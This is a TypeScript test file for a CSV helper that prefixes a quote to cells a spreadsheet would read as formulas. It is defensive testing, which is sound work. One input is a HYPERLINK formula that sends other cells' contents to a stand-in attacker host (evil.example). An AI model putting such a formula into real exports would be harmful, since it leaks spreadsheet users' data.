import { neutraliseFormula, safeCsv } from './csv';

describe('CSV cells that a spreadsheet would take for a formula', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?d="&A2&B2,"Sanne")', `'=HYPERLINK("https://evil.example/?d="&A2&B2,"Sanne")`],
    ['+31612345678', "'+31612345678"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tTAB', "'\tTAB"],
    ['\rCR', "'\rCR"],
  ])('%j gets a leading quote', (cell, safe) => {
    expect(neutraliseFormula(cell)).toBe(safe);
  });

  it.each(['Sanne de Vries', '-0,5', '-12', '3,25', '', 'a=b', 'e-mail'])('%j stays as it is', (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });

  it('neutralises header and rows alike, the rest as csv-stringify writes it', () => {
    expect(safeCsv([['=1+1', 'Jan']], { delimiter: ';', header: true, columns: ['@naam', 'x'] })).toBe(
      "'@naam;x\n'=1+1;Jan\n",
    );
  });
});
